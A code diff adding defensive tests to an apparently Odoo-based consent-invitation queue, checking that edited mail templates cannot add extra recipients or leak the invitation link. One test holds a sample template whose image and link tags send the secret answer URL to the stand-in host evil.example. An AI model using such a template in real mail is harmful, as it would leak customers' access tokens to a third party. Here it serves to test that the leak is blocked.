@@ -1,5 +1,6 @@
 """The queue of invitations: one that goes wrong holds up no other, and no link lies about."""
 
+import re
 from unittest.mock import patch
 
 from psycopg2.errors import SerializationFailure
@@ -148,6 +149,55 @@ class TestInvitationQueue(InvitationCommon):
         texts = self.env["mail.message"].search([("model", "=", "ajw.consent.invitation")])
         self.assertNotIn(token, str(texts.mapped("body")))
 
+    @mute_logger(MAIL)
+    def test_A1_an_edited_template_tells_nobody_else_the_link(self):
+        """Who edits the wording of mails needs no right to answer for customers."""
+        template = self.env.ref("ajw_consent.mail_template_invitation")
+        insider = self._create_partner("Insider", "+919876543999")
+        insider.email = "insider@example.com"
+        for values in (
+            {"email_cc": "insider@example.com"},
+            {"email_to": "insider@example.com"},
+            {"email_to": "{{ object.email }}, insider@example.com"},
+            {"partner_to": str(insider.id), "email_to": False},
+        ):
+            with self.subTest(values), self.env.cr.savepoint() as savepoint:
+                self.outbox.clear()
+                template.write(values)
+                row = self._invite()
+                self._run_sending()
+                self.assertEqual(self.outbox, [])
+                self.assertEqual(row.state, "failed")
+                self.assertIn("nobody else", row.failure_reason)
+                self.assertFalse(row.sudo().token_hash)
+                savepoint.rollback()
+                self.env.invalidate_all()
+        template.write({"email_to": False, "partner_to": "{{ object.partner_id.id }}"})
+        row = self._invite()
+        self._run_sending()
+        self.assertEqual(row.state, "sent", "the person, named in another way")
+
+    @mute_logger(MAIL)
+    def test_A1_a_link_is_put_nowhere_but_where_it_is_followed(self):
+        template = self.env.ref("ajw_consent.mail_template_invitation")
+        template.body_html = (
+            '<p><img t-attf-src="https://evil.example/{{ object.answer_url }}"/>'
+            '<a t-attf-href="https://evil.example/?u={{ object.answer_url }}">Answer</a>'
+            '<t t-out="object.answer_url"/></p>'
+        )
+        self._invite()
+        self._run_sending()
+        body = self.outbox[-1][1]
+        [token] = re.findall(r'href="[^"]*/ajw_consent/invitation/([\w-]+)"', body)
+        self.assertEqual(self.Invitation._resolve(token).problem, "")
+        self.assertEqual(body.count(token), 1)
+        self.assertIn(f'href="{self.Invitation._url_of(token, self.company)}"', body)
+        template.body_html = "<p>Please agree.</p>"
+        other = self._invite(self._create_customers(1))
+        self._run_sending()
+        self.assertEqual(other.state, "failed")
+        self.assertIn("has no link", other.failure_reason)
+
     def test_failed_mail_leaves_no_link(self):
         bodies = []
         self.unreachable = {"customer@example.com"}
@@ -207,7 +257,8 @@ class TestInvitationQueue(InvitationCommon):
         self.assertEqual(self._answer(self._token_of("customer@example.com")), "")
         invitation.with_user(self.consent_user).action_retry()
         self._run_sending()
-        self.assertEqual(len(self.outbox), 1)
+        links = [body for _to, body in self.outbox if "/ajw_consent/invitation/" in body]
+        self.assertEqual(len(links), 1)
 
     def test_waiting_beyond_its_time_is_closed(self):
         invitation = self._handed_over()
